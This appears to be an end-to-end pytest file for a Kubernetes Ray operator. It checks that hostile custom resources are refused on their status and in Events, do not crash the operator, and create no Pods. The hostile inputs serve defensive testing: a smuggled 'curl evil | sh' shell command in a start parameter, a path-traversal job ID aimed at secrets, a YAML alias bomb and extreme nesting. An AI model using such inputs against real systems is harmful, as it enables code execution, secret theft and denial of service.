"""Hostile objects beside a valid one, through the real apiserver: the operator stays up (also when it
starts with them already there), builds the valid RayCluster, says on each hostile object's status
and in an Event what is wrong, and does not keep rewriting them."""

from __future__ import annotations

import copy
import json
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.hostile import ALIAS_BOMB, nested

from e2e.conformance.cases import simulated_raycluster_spec
from e2e.conftest import HostOperator, Kubectl, wait_for

CONTAINER = {
    "name": "ray",
    "image": "rayproject/ray:2.60.0",
    "resources": {"limits": {"cpu": "1", "memory": "1Gi"}},
}
SPEC = {
    "headGroupSpec": {"rayStartParams": {}, "template": {"spec": {"containers": [CONTAINER]}}},
    "workerGroupSpecs": [
        {
            "groupName": "small",
            "replicas": 1,
            "minReplicas": 0,
            "maxReplicas": 2,
            "rayStartParams": {},
            "template": {"spec": {"containers": [CONTAINER]}},
        }
    ],
}


def raycluster(name: str, change: Any = None) -> dict[str, Any]:
    spec = simulated_raycluster_spec(SPEC)
    if change is not None:
        change(spec)
    return {"apiVersion": "ray.io/v1", "kind": "RayCluster", "metadata": {"name": name}, "spec": spec}


def head(spec: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = spec["headGroupSpec"]["template"]["spec"]["containers"][0]
    return container


# name -> (how it is hostile, what its status must name)
HOSTILE_CLUSTERS = {
    # 2,000 levels (the apiserver takes up to 10,000): Python's json alone stops at 1,000.
    "deep": (lambda s: head(s).update(extra=nested(2000)), "nested more than 100 objects and arrays deep"),
    "huge": (
        lambda s: s["workerGroupSpecs"][0].update(replicas=2**31 - 1, maxReplicas=2**31 - 1),
        "asks for more than 10000 Pods",
    ),
    "shell": (
        lambda s: s["headGroupSpec"].update(rayStartParams={"num-cpus": "1; curl evil | sh"}),
        "spec.headGroupSpec.rayStartParams.num-cpus",
    ),
    "badcpu": (
        lambda s: head(s)["resources"]["limits"].update(cpu="abc"),
        "spec.headGroupSpec.template.spec.containers[0].resources.limits.cpu",
    ),
    "nullitem": (
        lambda s: head(s).update(ports=[None]),
        "spec.headGroupSpec.template.spec.containers[0].ports[0]",
    ),
}


def rayjob(name: str, **spec: Any) -> dict[str, Any]:
    body = {"entrypoint": "python -c 'print(1)'", "rayClusterSpec": simulated_raycluster_spec(SPEC), **spec}
    return {"apiVersion": "ray.io/v1", "kind": "RayJob", "metadata": {"name": name}, "spec": body}


HOSTILE_JOBS = {
    "bomb": (rayjob("bomb", runtimeEnvYAML=ALIAS_BOMB), "document contains excessive aliasing"),
    "pathid": (rayjob("pathid", jobId="../../api/v1/secrets"), "spec.jobId"),
}


@pytest.fixture(autouse=True)
def deep_json() -> Iterator[None]:
    """This test writes and reads back what Python's json stops at by default (1,000 levels)."""
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(10_000)
    yield
    sys.setrecursionlimit(limit)


def create(kubectl: Kubectl, namespace: str, body: dict[str, Any]) -> None:
    # `create`, not `apply`: no last-applied annotation copying a 2,000-level object once more.
    kubectl("create", "-n", namespace, "-f", "-", input=json.dumps(body))


def said(kubectl: Kubectl, namespace: str, kind: str, name: str, words: str) -> bool:
    status = kubectl.json("get", kind, name, "-n", namespace).get("status") or {}
    text = json.dumps(status)
    if words not in text:
        return False
    events = kubectl.json("get", "events", "-n", namespace)["items"]
    return any(
        (e.get("regarding") or e.get("involvedObject") or {}).get("name") == name
        and e.get("type") == "Warning"
        and words in (e.get("note") or e.get("message") or "")
        for e in events
    )


def versions(kubectl: Kubectl, namespace: str) -> dict[str, str]:
    items = kubectl.json("get", "rayclusters,rayjobs", "-n", namespace)["items"]
    return {f"{i['kind']}/{i['metadata']['name']}": i["metadata"]["resourceVersion"] for i in items}


def ready(kubectl: Kubectl, namespace: str, name: str) -> bool:
    return (kubectl.json("get", "raycluster", name, "-n", namespace).get("status") or {}).get(
        "state"
    ) == "ready"


def test_hostile_objects_are_refused_on_their_status_and_never_stop_the_operator(
    kubectl: Kubectl, namespace: str, operator: Path, host_operator: HostOperator
) -> None:
    for name, (change, _) in HOSTILE_CLUSTERS.items():
        create(kubectl, namespace, raycluster(name, change))
    for body, _ in HOSTILE_JOBS.values():
        create(kubectl, namespace, copy.deepcopy(body))
    create(kubectl, namespace, raycluster("fine"))
    wait_for(lambda: ready(kubectl, namespace, "fine"), 120, "the valid RayCluster to be ready", interval=2)
    expected = [("raycluster", name, words) for name, (_, words) in HOSTILE_CLUSTERS.items()]
    expected += [("rayjob", name, words) for name, (_, words) in HOSTILE_JOBS.items()]

    def unsaid() -> list[tuple[str, str, str]]:
        return [item for item in expected if not said(kubectl, namespace, *item)]

    wait_for(lambda: not unsaid(), 60, "each hostile object's status and Event to say what is wrong")
    assert host_operator.process is not None
    assert host_operator.process.poll() is None, host_operator.log.read_text()[-3000:]
    # Said once: nothing keeps rewriting them (no hot loop on what cannot be fixed by retrying).
    before = versions(kubectl, namespace)
    time.sleep(8)
    after = versions(kubectl, namespace)
    assert {k: v for k, v in after.items() if before.get(k) != v and "fine" not in k} == {}
    pods = kubectl("get", "pods", "-n", namespace, "-o", "name").split()
    assert all("fine" in pod for pod in pods), pods  # no Pod for any hostile object
    # A start with them all there: the first listing holds the 2,000-level object.
    host_operator.stop()
    host_operator.start()
    create(kubectl, namespace, raycluster("after-restart"))
    wait_for(
        lambda: ready(kubectl, namespace, "after-restart"),
        120,
        "a new RayCluster after the restart",
        interval=2,
    )
    assert host_operator.process.poll() is None, host_operator.log.read_text()[-3000:]


def rayservice(name: str) -> dict[str, Any]:
    serve = "applications:\n- name: app\n  import_path: app:app\n  route_prefix: /\n"
    spec = {"serveConfigV2": serve, "rayClusterConfig": simulated_raycluster_spec(SPEC)}
    return {"apiVersion": "ray.io/v1", "kind": "RayService", "metadata": {"name": name}, "spec": spec}


def status_of(kubectl: Kubectl, namespace: str, kind: str, name: str) -> dict[str, Any]:
    status: dict[str, Any] = kubectl.json("get", kind, name, "-n", namespace).get("status") or {}
    return status


def reasons(kubectl: Kubectl, namespace: str, name: str) -> set[str]:
    """The reasons of the Warning Events about the objects called `name`."""
    return {
        str(e.get("reason"))
        for e in kubectl.json("get", "events", "-n", namespace)["items"]
        if (e.get("regarding") or e.get("involvedObject") or {}).get("name") == name
        and e.get("type") == "Warning"
    }


def failure_condition(status: dict[str, Any]) -> dict[str, Any] | None:
    return next((c for c in status.get("conditions") or [] if c.get("type") == "ReconcileFailure"), None)


def test_refused_creates_are_said_on_the_status_and_taken_back_once_they_work(
    kubectl: Kubectl, namespace: str, operator: Path, host_operator: HostOperator
) -> None:
    """A quota that refuses every RayCluster, and an autoscaler Role of someone else's: the RayJob's
    `message`, the RayService's ReconcileFailure condition and the RayCluster's `reason` say why, with
    a ReconcileError Event; once the obstacle is gone, each goes on and its status no longer says so."""
    quota = {
        "apiVersion": "v1",
        "kind": "ResourceQuota",
        "metadata": {"name": "no-rayclusters"},
        "spec": {"hard": {"count/rayclusters.ray.io": "0"}},
    }
    kubectl.apply(json.dumps(quota), namespace)
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": "scaled"},
        "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["*"]}],
    }
    kubectl.apply(json.dumps(role), namespace)
    create(kubectl, namespace, rayjob("refused"))
    create(kubectl, namespace, rayservice("refused"))
    wait_for(
        lambda: (
            "ReconcileError: ApiError: 403 Forbidden: "
            in (status_of(kubectl, namespace, "rayjob", "refused").get("message") or "")
        ),
        60,
        "the RayJob's message to say its RayCluster was refused",
    )
    condition = wait_for(
        lambda: failure_condition(status_of(kubectl, namespace, "rayservice", "refused")),
        60,
        "the RayService's ReconcileFailure condition",
    )
    assert (condition["status"], condition["reason"]) == ("True", "ReconcileError"), condition
    assert "exceeded quota: no-rayclusters" in condition["message"], condition
    wait_for(
        lambda: (
            all(
                said(kubectl, namespace, kind, "refused", "exceeded quota")
                for kind in ("rayjob", "rayservice")
            )
            and "ReconcileError" in reasons(kubectl, namespace, "refused")
        ),
        60,
        "ReconcileError Events about the RayJob and the RayService",
    )
    kubectl("delete", "resourcequota", "no-rayclusters", "-n", namespace)
    wait_for(
        lambda: kubectl("get", "rayclusters", "-n", namespace, "-o", "name").count("raycluster") >= 2,
        120,
        "the RayJob's and the RayService's RayClusters once the quota is gone",
        interval=2,
    )
    wait_for(
        lambda: (
            not (status_of(kubectl, namespace, "rayjob", "refused").get("message") or "").startswith(
                "ReconcileError"
            )
            and failure_condition(status_of(kubectl, namespace, "rayservice", "refused")) is None
        ),
        120,
        "the RayJob's message and the RayService's condition to be taken back",
        interval=2,
    )
    clusters = kubectl("get", "rayclusters", "-n", namespace, "-o", "name").split()
    assert len(clusters) == 2, f"one RayCluster each for the RayJob and the RayService: {clusters}"

    def autoscaled(spec: dict[str, Any]) -> None:
        spec["enableInTreeAutoscaling"] = True

    create(kubectl, namespace, raycluster("scaled", autoscaled))
    wait_for(
        lambda: said(kubectl, namespace, "raycluster", "scaled", "is not this RayCluster's"),
        60,
        "the RayCluster's reason and an Event to say the Role is not its own",
    )
    reason = status_of(kubectl, namespace, "raycluster", "scaled")["reason"]
    assert reason.startswith("ReconcileError: NotOurs: Role "), reason
    assert "ReconcileError" in reasons(kubectl, namespace, "scaled")
    assert not kubectl("get", "pods", "-n", namespace, "-l", "ray.io/cluster=scaled", "-o", "name").strip()
    kubectl("delete", "role", "scaled", "-n", namespace)
    wait_for(lambda: ready(kubectl, namespace, "scaled"), 120, "the RayCluster to be ready", interval=2)
    assert "reason" not in status_of(kubectl, namespace, "raycluster", "scaled")
